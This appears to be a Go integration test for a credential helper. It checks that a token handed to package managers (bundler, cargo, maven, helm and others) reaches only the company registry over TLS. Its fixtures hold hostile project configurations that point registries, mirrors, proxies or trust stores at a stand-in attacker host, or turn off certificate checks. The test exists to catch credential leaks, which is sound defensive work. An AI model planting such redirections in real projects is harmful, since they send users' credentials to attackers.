package main

import (
	"archive/zip"
	"bytes"
	"cmp"
	"context"
	"flag"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"clerk-credential-helper/internal/sandbox"
	"clerk-credential-helper/internal/testworld"
)

// forRow is a real client of exec --for: a project of one's own, for which the token must arrive at git.acme.dev over
// TLS, and projects that want it elsewhere.
type forRow struct {
	tool, program, script string
	files                 map[string]string
	hostile               []hostileProject
	succeeds              bool // the token goes to the server of our world, without which the client fails
}

// hostileProject is the project with other files. Exec refuses it with these words, or the client runs and the token
// arrives at no other place.
type hostileProject struct {
	reason, says string
	files        map[string]string
	script       string // in place of the row's; may be empty
}

const (
	pyproject = "[tool.poetry]\nname = \"app\"\nversion = \"1\"\ndescription = \"\"\nauthors = []\n[tool.poetry.dependencies]\npython = \"^3.9\"\nhello = \"^1\"\n[[tool.poetry.source]]\nname = \"acme\"\nurl = \"https://git.acme.dev/simple/\"\ndefault = true\n"
	pdmFile   = "[project]\nname = \"app\"\nversion = \"1\"\nrequires-python = \">=3.9\"\ndependencies = [\"hello\"]\n[[tool.pdm.source]]\nname = \"pypi\"\nurl = \"https://git.acme.dev/simple/\"\nverify_ssl = true\n"
	pomFile   = "<project><modelVersion>4.0.0</modelVersion><parent><groupId>acme</groupId><artifactId>parent</artifactId><version>1</version><relativePath/></parent><artifactId>app</artifactId>" +
		"<repositories><repository><id>corp</id><url>https://git.acme.dev/maven/</url></repository></repositories></project>\n"
	gradleFile = "repositories { maven { name = 'acme'; url 'https://git.acme.dev/maven/'; credentials { username = acmeUsername; password = acmePassword } } }\nconfigurations { hello }\ndependencies { hello 'acme:hello:1' }\n"
	cargoFile  = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nhello = { version = \"1\", registry = \"corp\" }\n"
	cargoNamed = "[registries.corp]\nindex = \"sparse+https://git.acme.dev/cargo/\"\n"
	renvLine   = "options(repos = 'https://git.acme.dev/cran')\n"
)

func forRows() []forRow {
	replaced := func(file, text, old, new string) map[string]string {
		return map[string]string{file: strings.ReplaceAll(text, old, new)}
	}
	const byHTTP = `it asks for "git.acme.dev" by http`
	return []forRow{
		{"bundler", "bundle", "bundle lock", map[string]string{"Gemfile": "source 'https://git.acme.dev/gems/'\ngem 'hello'\n"}, []hostileProject{
			{"another host", "", map[string]string{"Gemfile": "source 'https://evil.dev/gems/'\ngem 'hello'\n"}, ""},
			{"a host below ours", "", map[string]string{"Gemfile": "source 'https://evil.git.acme.dev/'\ngem 'hello'\n"}, ""},
			{"a mirror of ours", "", map[string]string{".bundle/config": "---\nBUNDLE_MIRROR__HTTPS://GIT__ACME__DEV/GEMS/: \"https://evil.dev/\"\n"}, ""},
			{"our host by http", byHTTP, map[string]string{"Gemfile": "source 'http://git.acme.dev/gems/'\ngem 'hello'\n"}, ""},
			{"our host's other port", `it asks for another port of "git.acme.dev"`, map[string]string{"Gemfile": "source 'https://git.acme.dev:9/gems/'\n"}, ""},
			{"no check of certificates", `"BUNDLE_SSL_VERIFY_MODE" can lead requests elsewhere`, map[string]string{".bundle/config": "---\nBUNDLE_SSL_VERIFY_MODE: \"0\"\n"}, ""},
		}, false},
		{"composer", "composer", "composer update --no-interaction --no-plugins", map[string]string{
			"composer.json": `{"repositories":[{"type":"composer","url":"https://git.acme.dev/composer"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, []hostileProject{
			{"another host", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://evil.dev/"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, ""},
			{"a redirect", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://git.acme.dev/to/after-evil"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, ""},
			{"our host by http", "secure-http", map[string]string{"composer.json": `{"config":{"secure-http":false},"repositories":[{"type":"composer","url":"https://git.acme.dev/composer"}]}`}, ""},
			{"our host by http, alone", byHTTP, map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"http:\/\/git.acme.dev\/composer"}]}`}, ""},
		}, false},
		{"twine", "twine", "TWINE_REPOSITORY_URL=https://git.acme.dev/upload/ clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl", nil, []hostileProject{
			{"another host", "one user name and password for all addresses", nil, "TWINE_REPOSITORY_URL=https://evil.dev/ clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl"},
			{"another host beside ours", "one user name and password for all addresses", nil,
				"TWINE_REPOSITORY_URL=https://git.acme.dev/ clerk-credential-helper exec --for twine -- twine upload --repository-url https://evil.dev/ --non-interactive hello-1.0-py3-none-any.whl"},
			{"no host", "one user name and password for all addresses", nil, "clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl"},
		}, false},
		{"poetry", "poetry", "poetry lock -n", map[string]string{"pyproject.toml": pyproject}, []hostileProject{
			{"another host", "", replaced("pyproject.toml", pyproject, "git.acme.dev", "evil.dev"), ""},
			{"our host by http", byHTTP, replaced("pyproject.toml", pyproject, "https:", "http:"), ""},
			{"no check of certificates", `"cert" can lead`, map[string]string{"poetry.toml": "[certificates.acme]\ncert = false\n"}, ""},
		}, false},
		{"pdm", "pdm", "pdm config python.use_venv false; pdm use -f python3; clerk-credential-helper exec --for pdm -- pdm lock", map[string]string{"pyproject.toml": pdmFile}, []hostileProject{
			{"another host", "", replaced("pyproject.toml", pdmFile, "git.acme.dev", "evil.dev"), ""},
			{"our host by http", byHTTP, replaced("pyproject.toml", pdmFile, "https:", "http:"), ""},
			{"no check of certificates", `"verify_ssl" can lead`, replaced("pyproject.toml", pdmFile, "verify_ssl = true", "verify_ssl = false"), ""},
		}, false},
		{"maven", "mvn", "mvn -B -q -Dmaven.repo.local=repository validate", map[string]string{"pom.xml": pomFile}, []hostileProject{
			{"our name for another host", `"corp" is the name of a registry of the profile, and of another`, map[string]string{"lib/pom.xml": strings.ReplaceAll(pomFile, "git.acme.dev", "evil.dev")}, ""},
			{"another name", "", replaced("pom.xml", pomFile, "<repositories>", "<repositories><repository><id>evil</id><url>https://evil.dev/maven/</url></repository>"), ""},
			{"another host alone", "takes a token by a registry's name", replaced("pom.xml", pomFile, "git.acme.dev", "evil.dev"), ""},
			{"our host by http", byHTTP, replaced("pom.xml", pomFile, "https:", "http:"), ""},
			{"another store of authorities", `"trustStore" can lead`, map[string]string{".mvn/jvm.config": "-Djavax.net.ssl.trustStore=evil.jks\n"}, ""},
		}, false},
		{"gradle", "gradle", "gradle --no-daemon -q dependencies", map[string]string{"build.gradle": gradleFile, "settings.gradle": ""}, []hostileProject{
			{"our host by http", byHTTP, replaced("build.gradle", gradleFile, "https:", "http:"), ""},
			{"a proxy", `"proxyHost" can lead`, map[string]string{"gradle.properties": "systemProp.https.proxyHost evil.dev\n"}, ""},
		}, false},
		{"cargo", "cargo", "cargo fetch", map[string]string{"Cargo.toml": cargoFile, "src/main.rs": "fn main() {}\n", ".cargo/config.toml": cargoNamed}, []hostileProject{
			{"our name for another host", `"corp" is the name of`, map[string]string{"../.cargo/config.toml": strings.ReplaceAll(cargoNamed, "git.acme.dev", "evil.dev")}, ""},
			{"another name", "", map[string]string{".cargo/config.toml": cargoNamed + "[registries.evil]\nindex = \"sparse+https://evil.dev/cargo/\"\n", "Cargo.toml": strings.ReplaceAll(cargoFile, `"corp"`, `"evil"`)}, ""},
			{"a source in place of ours", "", map[string]string{".cargo/config.toml": cargoNamed + "[source.\"sparse+https://git.acme.dev/cargo/\"]\nregistry = \"sparse+https://git.acme.dev/cargo/\"\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+https://evil.dev/cargo/\"\n"}, ""},
			{"a proxy", `"proxy" can lead`, map[string]string{".cargo/config.toml": cargoNamed + "[http]\nproxy = \"http://{REC}\"\n"}, ""},
			{"our host by http", byHTTP, replaced(".cargo/config.toml", cargoNamed, "https:", "http:"), ""},
		}, false},
		{"terraform", "terraform", "terraform init -backend=false", map[string]string{"main.tf": "module \"a\" {\n  source = \"git.acme.dev/acme/hello/null\"\n}\n"}, []hostileProject{
			{"another host", "", map[string]string{"main.tf": "module \"a\" {\n  source = \"evil.dev/acme/hello/null\"\n}\n"}, ""},
			{"our host by http", byHTTP, map[string]string{"main.tf": "module \"a\" {\n  source = \"http://git.acme.dev/a.zip\"\n}\n"}, ""},
		}, false},
		{"r", "Rscript", "Rscript -e 'available.packages()'", map[string]string{".Rprofile": renvLine}, []hostileProject{
			{"another host", "", map[string]string{".Rprofile": "options(repos = 'https://evil.dev/cran')\n"}, ""},
			{"a redirect", "", map[string]string{".Rprofile": "options(repos = 'https://git.acme.dev/to/after-evil')\n"}, ""},
		}, false},
		{"deno", "deno", "deno cache --reload --no-config --allow-import --unsafely-ignore-certificate-errors main.ts", map[string]string{"main.ts": "import hello from 'https://{TOOLS}/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, []hostileProject{
			{"another host", "", map[string]string{"main.ts": "import hello from 'https://evil.dev/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, ""},
		}, true},
		{"helm", "helm", "helm pull oci://git.acme.dev/charts/hello --version 1.0.0", map[string]string{"Chart.yaml": "apiVersion: v2\nname: app\nversion: 1.0.0\n"}, []hostileProject{
			{"another host", "", nil, "clerk-credential-helper exec --for helm -- helm pull oci://evil.dev/charts/hello --version 1.0.0"},
			{"our host by http", byHTTP, map[string]string{"Chart.yaml": "apiVersion: v2\nname: app\nversion: 1.0.0\ndependencies:\n- name: x\n  version: 1.0.0\n  repository: http://git.acme.dev/charts\n"}, ""},
		}, false},
		{"nix", "nix-prefetch-url", "nix-prefetch-url $(cat address)", map[string]string{"address": "https://git.acme.dev/hello.tar.gz"}, []hostileProject{
			{"another host", "", map[string]string{"address": "https://evil.dev/hello.tar.gz"}, ""},
			{"a redirect", "", map[string]string{"address": "https://git.acme.dev/to/after-evil/hello.tar.gz"}, ""},
		}, false},
	}
}

// slowClient reports whether a row is left out: some take longer than all others together.
func slowClient(tool string) bool {
	return !*everyClient && slices.Contains([]string{"poetry", "pdm", "maven", "gradle", "r"}, tool)
}

var everyClient = flag.Bool("managers", false, "run the package managers of exec --for that take long, too; .ci/managers --full does")

// forClients says for each tool of exec --for which client proves its row, by the command that prints its version, or
// what the row is compared with where none can be had.
func forClients() map[string]string {
	clients := map[string]string{
		"npm": "npm --version", "pnpm": "pnpm10 --version; pnpm12 --version", "yarn": "yarn1 --version; yarn4 --version", "bun": "bun --version",
		"docker": "golden: by its documentation: docker 28.3's notes, credentials in DOCKER_AUTH_CONFIG",
		"uv":     "golden: docs.astral.sh, netrc files", "conda": "golden: by its documentation: requests, netrc", "hex": "golden: by its source: Hex.Netrc, which reads NETRC",
		"nuget": "golden: by its documentation: learn.microsoft.com, credentials in environment variables", "apk": "golden: by its source: apk-tools' libfetch, which reads NETRC",
	}
	for _, row := range forRows() {
		clients[row.tool] = row.program + map[bool]string{false: " --version", true: " version"}[row.program == "helm"]
	}
	return clients
}

// TestExecFor runs each client in its own project, where the token must arrive, and in those that want it elsewhere.
// The project is a clone, and the registry stands behind a proxy that every client uses: it is all hosts there are.
func TestExecFor(t *testing.T) {
	testworld.Long(t, "it runs package managers")
	if runtime.GOOS == "windows" {
		t.Skip("the commands are shell scripts")
	}
	dir := t.TempDir()
	w, vars, err := newWorld(dir, t.Cleanup)
	if err != nil {
		t.Fatal(err)
	}
	certificate, ca, err := sandbox.Certificate("git.acme.dev", "evil.dev", "evil.git.acme.dev")
	if err != nil {
		t.Fatal(err)
	}
	roots, err := os.ReadFile(vars["SSL_CERT_FILE"])
	if err != nil {
		t.Fatal(err)
	}
	authorities := vars["SSL_CERT_FILE"]
	write(t, authorities, string(ca)+string(roots))
	rec := newRecorder(t, certificate)
	host, port, _ := strings.Cut(rec.addr, ":")
	proxy, home := "http://"+rec.addr, vars["HOME"]
	maps.Copy(vars, testworld.Toolchains())
	trust := filepath.Join(dir, "trust.p12")
	if _, err := exec.LookPath("keytool"); err == nil && !slowClient("maven") {
		write(t, filepath.Join(dir, "ca.pem"), string(ca))
		if out, err := exec.Command("keytool", "-importcert", "-noprompt", "-alias", "a", "-file", filepath.Join(dir, "ca.pem"), "-keystore", trust, "-storepass", "changeit").CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	}
	java := "-Dhttps.proxyHost=" + host + " -Dhttps.proxyPort=" + port + " -Djavax.net.ssl.trustStore=" + trust + " -Djavax.net.ssl.trustStorePassword=changeit -Duser.home=" + home
	for name, value := range map[string]string{
		"PATH": os.Getenv("PATH"), "CLERK_HELPER_INTERACTIVE": "never", "TMPDIR": dir,
		"HTTP_PROXY": proxy, "http_proxy": proxy, "HTTPS_PROXY": proxy, "https_proxy": proxy, "ALL_PROXY": proxy, "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1",
		"CURL_CA_BUNDLE": authorities, "REQUESTS_CA_BUNDLE": authorities, "CARGO_HTTP_CAINFO": authorities, "NIX_SSL_CERT_FILE": authorities,
		"CARGO_HOME": filepath.Join(home, ".cargo"), "CARGO_NET_RETRY": "0", "BUNDLE_RETRY": "0", "COMPOSER_ALLOW_SUPERUSER": "1", "CHECKPOINT_DISABLE": "1", "PDM_CHECK_UPDATE": "0",
		"DENO_CERT": authorities, "DENO_DIR": filepath.Join(dir, "deno"), "DENO_NO_UPDATE_CHECK": "1",
		"MAVEN_OPTS": java, "GRADLE_OPTS": java, "NIX_STORE_DIR": filepath.Join(dir, "nix/store"), "NIX_STATE_DIR": filepath.Join(dir, "nix/state"), "NIX_LOG_DIR": filepath.Join(dir, "nix/log"),
		"NIX_CONFIG": "sandbox = false\nbuild-users-group =\ndownload-attempts = 1",
	} {
		vars[name] = value
	}
	var env []string
	for name, value := range vars {
		env = append(env, name+"="+value)
	}
	run := func(t *testing.T, folder, script string) (int, string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "bash", "-c", script)
		cmd.Dir, cmd.Env, cmd.WaitDelay = folder, env, 10*time.Second
		out, err := cmd.CombinedOutput()
		if ctx.Err() != nil || cmd.ProcessState == nil {
			t.Fatalf("%s: %v %v", script, err, ctx.Err())
		}
		return cmd.ProcessState.ExitCode(), string(out)
	}
	if status, out := run(t, dir, "CLERK_HELPER_INTERACTIVE=always clerk-credential-helper login"); status != exitOK {
		t.Fatal(out)
	}
	secrets := w.Clerk.Issued()
	for _, row := range forRows() {
		t.Run(row.tool, func(t *testing.T) {
			if slowClient(row.tool) {
				t.Skip("it takes long: -managers runs it")
			}
			testworld.Need(t, row.program)
			script := row.script
			if !strings.Contains(script, "clerk-credential-helper") {
				script = "clerk-credential-helper exec --for " + row.tool + " -- " + row.script
			}
			project := func(more map[string]string) string {
				folder := filepath.Join(t.TempDir(), "clone", "app")
				files := maps.Clone(row.files)
				if files == nil {
					files = map[string]string{"hello-1.0-py3-none-any.whl": wheel(t)}
				}
				files["../.git/HEAD"] = "ref: refs/heads/main\n"
				maps.Copy(files, more)
				for name, text := range files {
					write(t, filepath.Join(folder, name), strings.NewReplacer("{REC}", rec.addr, "{TOOLS}", vars["TOOLS"]).Replace(text))
				}
				return folder
			}
			rec.since()
			status, out := run(t, project(nil), script)
			there := false
			for _, a := range rec.since() {
				switch {
				case a.holds(secrets) && a.place == "https://git.acme.dev":
					there = true
				case a.holds(secrets):
					t.Errorf("the token arrived at %s: %.200s", a.place, a.text)
				}
			}
			if row.succeeds {
				without, said := run(t, project(nil), row.script)
				if there = status == exitOK; without == exitOK {
					t.Errorf("it succeeds without the token: %s", said)
				}
			}
			if !there {
				t.Errorf("the token did not arrive: %d\n%s", status, out)
			}
			for _, secret := range secrets {
				if strings.Contains(out, secret) {
					t.Error("the client shows the token")
				}
			}
			for _, h := range row.hostile {
				t.Run(h.reason, func(t *testing.T) {
					rec.since()
					status, out := run(t, project(h.files), cmp.Or(h.script, script))
					arrived := rec.since()
					asked := slices.ContainsFunc(arrived, func(a arrival) bool { return a.place != "http://the proxy" })
					for _, a := range arrived {
						if a.holds(secrets) && a.place != "https://git.acme.dev" {
							t.Errorf("the token arrived at %s: %.200s", a.place, a.text)
						}
					}
					switch {
					case h.says != "" && (!strings.Contains(out, h.says) || asked):
						t.Errorf("%d, %v, not %q: %s", status, asked, h.says, out)
					case h.says == "" && !asked:
						t.Errorf("it asked for nothing, which proves nothing: %d %s", status, out)
					}
				})
			}
			if left, err := filepath.Glob(filepath.Join(home, ".local/state/clerk-credential-helper/exec/run-*")); err != nil || left != nil {
				t.Errorf("files are left: %q (%v)", left, err)
			}
		})
	}
}

// wheel is a package of Python's, for twine.
func wheel(t *testing.T) string {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for name, text := range map[string]string{"hello.py": "", "hello-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n",
		"hello-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n", "hello-1.0.dist-info/RECORD": ""} {
		f, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(f, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
